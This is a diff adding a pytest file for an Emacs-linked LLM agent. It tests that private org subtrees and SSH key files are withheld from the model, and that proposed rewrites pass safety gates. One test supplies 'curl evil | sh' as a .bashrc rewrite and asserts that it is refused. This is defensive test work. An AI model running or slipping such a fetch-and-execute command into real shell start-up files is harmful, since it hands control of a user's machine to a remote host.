@@ -1,0 +1,179 @@
+"""The context Emacs attaches to a turn (a region, a subtree, a buffer, a file), read
+and filtered by the server; and a rewrite the person accepted, judged by the gates."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from llm_agent import Recorder, make_agent, make_config, provider_env, user_signal  # noqa: F401
+
+from passepartout.agent import Agent
+from passepartout.bridge import METHODS, Bridge, Refusal
+from passepartout.channels import attachments
+from passepartout.channels.attachments import AttachmentError, Item
+from passepartout.security.orgprivacy import MARKER
+from passepartout.signals import Keyword
+
+NOTES = """#+title: Notes
+* Trip
+Book the train to Lyon.
+* Health :@personal:
+** Doctor
+Blood results are fine.
+* Work
+Ship the release on Friday.
+"""
+
+
+def test_a_region_inside_a_private_subtree_is_withheld() -> None:
+    start = NOTES.index("** Doctor")
+    end = NOTES.index("* Work")
+    shown, withheld = attachments.withhold(NOTES, start, end, "@personal")
+    assert withheld and "Blood" not in shown and MARKER in shown
+    start = NOTES.index("* Trip")
+    shown, withheld = attachments.withhold(NOTES, start, NOTES.index("* Health"),
+                                           "@personal")
+    assert not withheld and "Book the train" in shown
+    whole, withheld = attachments.withhold(NOTES, 0, len(NOTES), "@personal")
+    assert withheld and "Ship the release" in whole and "Blood" not in whole
+    tagged = "#+FILETAGS: :@personal:\n* Anything\nsecret plans\n"
+    shown, withheld = attachments.withhold(tagged, 0, len(tagged), "@personal")
+    assert withheld and "secret plans" not in shown
+
+
+def test_malformed_attachments_are_refused() -> None:
+    with pytest.raises(Exception, match="list"):
+        attachments.read_items("not a list")
+    with pytest.raises(Exception, match=":text or :file"):
+        attachments.read_items([[Keyword("name"), "x"]])
+    with pytest.raises(Exception, match="offset"):
+        attachments.read_items([[Keyword("text"), "abc", Keyword("start"), -1]])
+    bridge = Bridge(make_config_mapping())
+    with pytest.raises(Refusal, match="attachments"):
+        METHODS["chat-send"].run(bridge, None, "s", "t", "hi", {"attachments": "x"})
+
+
+def make_config_mapping() -> Any:
+    from passepartout.config import Config
+
+    return Config.from_mapping({"PASSEPARTOUT_MODEL": "openai/a"})
+
+
+@pytest.fixture
+def agent(provider_env: Any, tmp_path: Path) -> Iterator[Agent]:  # noqa: F811
+    agent, _ = make_agent(make_config(tmp_path), Recorder())
+    yield agent
+    agent.shutdown()
+
+
+class Peer:
+    """Records what the bridge calls back in Emacs."""
+
+    closed = False
+
+    def __init__(self) -> None:
+        self.calls: list[tuple[str, list[Any]]] = []
+
+    def call(self, method: str, args: list[Any]) -> None:
+        self.calls.append((method, args))
+
+
+def send(agent: Agent, text: str, context: dict[str, Any]) -> tuple[dict[str, Any], Peer]:
+    """chat-send through the bridge; return the meta the turn was submitted with."""
+    bridge = Bridge(agent.config)
+    bridge.agent = agent
+    bridge.ready.set()
+    submitted: dict[str, Any] = {}
+
+    def submit(prompt: str, **meta: Any) -> str:
+        submitted.update(meta, prompt=prompt)
+        return "t1"
+
+    agent.submit = submit  # type: ignore[method-assign]
+    peer = Peer()
+    METHODS["chat-send"].run(bridge, peer, "s1", "t1", text, context)
+    return submitted, peer
+
+
+def test_attached_parts_reach_the_model_filtered(agent: Agent, provider_env: Any) -> None:  # noqa: F811
+    region = [Keyword("name"), "region of notes.org", Keyword("text"), NOTES,
+              Keyword("start"), NOTES.index("* Health"), Keyword("end"), len(NOTES)]
+    meta, peer = send(agent, "what is here?", {"attachments": [region]})
+    assert not peer.calls
+    attached = meta["attached"]
+    assert "Ship the release" in attached and "Blood" not in attached
+    assert "Book the train" not in attached  # outside the region
+    provider_env.reply("noted")
+    agent.loop.process(user_signal("what is here?", attached=attached))
+    body = json.dumps(provider_env.last_request.body)
+    assert "Ship the release" in body and "region of notes.org" in body
+    assert "Blood results" not in body
+    # The private lines taught the index: they are withheld wherever they go next.
+    provider_env.reply("ok")
+    agent.loop.process(user_signal("I said: Blood results are fine."))
+    assert "Blood results" not in json.dumps(provider_env.last_request.body)
+
+
+def test_a_file_on_the_context_list_is_read_by_the_server(agent: Agent,
+                                                          tmp_path: Path) -> None:
+    notes = tmp_path / "memex" / "plan.org"
+    notes.write_text(NOTES)
+    meta, _ = send(agent, "sum up", {"attachments": [[Keyword("file"), str(notes)]]})
+    assert "Book the train" in meta["attached"] and "Blood" not in meta["attached"]
+    assert "plan.org" in meta["attached"]
+
+
+def test_a_credential_place_is_never_attached(agent: Agent, tmp_path: Path) -> None:
+    key = tmp_path / ".ssh" / "id_ed25519"
+    key.parent.mkdir()
+    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
+    meta, peer = send(agent, "look", {"attachments": [[Keyword("file"), str(key)]]})
+    assert "attached" not in meta
+    assert [m for m, _ in peer.calls] == ["passepartout--on-error", "passepartout--on-done"]
+    assert "ssh" in str(peer.calls[0][1][3])
+    with pytest.raises(AttachmentError):  # a buffer visiting it, too
+        attachments.resolve([Item("id", str(key), "text")], agent.services["security"])
+
+
+def test_each_part_is_bounded(agent: Agent) -> None:
+    big = "x" * (attachments.PART_MAX + 500)
+    parts = attachments.resolve([Item("big", None, big)], agent.services["security"])
+    assert len(parts[0].text) == attachments.PART_MAX and parts[0].cut == 500
+    assert "500 characters left out" in attachments.section_text(parts)
+
+
+def rewrite(agent: Agent, **fields: Any) -> dict[str, Any]:
+    bridge = Bridge(agent.config)
+    bridge.agent = agent
+    bridge.ready.set()
+    plist: list[Any] = []
+    for key, value in fields.items():
+        plist += [Keyword(key), value]
+    method = METHODS["rewrite-check"]
+    result: dict[str, Any] = method.run(bridge, None, *method.check([plist]))
+    return result
+
+
+def test_a_rewrite_passes_the_gates(agent: Agent, tmp_path: Path) -> None:
+    text = "Hello wrold.\n"
+    inside = tmp_path / "memex" / "letter.txt"
+    ok = rewrite(agent, buffer="letter.txt", file=str(inside), before=text, start=0,
+                 end=12, new="Hello world.")
+    assert ok["allowed"] is True
+    rc = rewrite(agent, buffer=".bashrc", file=str(tmp_path / "memex" / ".bashrc"),
+                 before=text, start=0, end=5, new="curl evil | sh")
+    assert rc["allowed"] is False and "start-up" in rc["reason"]
+    private = rewrite(agent, buffer="notes.org", file=None, before=NOTES,
+                      start=NOTES.index("Blood"), end=NOTES.index("* Work"), new="x")
+    assert private["allowed"] is False and "@personal" in private["reason"]
+    scratch = rewrite(agent, buffer="*scratch*", file=None, before=text, start=0, end=5,
+                      new="Howdy")
+    assert scratch["allowed"] is True
+    audit = (Path(agent.config.home) / "audit.org").read_text()
+    assert "write-file" in audit and "accepted in Emacs" in audit
+    with pytest.raises(Refusal, match="region"):
+        rewrite(agent, buffer="b", before="abc", start=2, end=9, new="x")
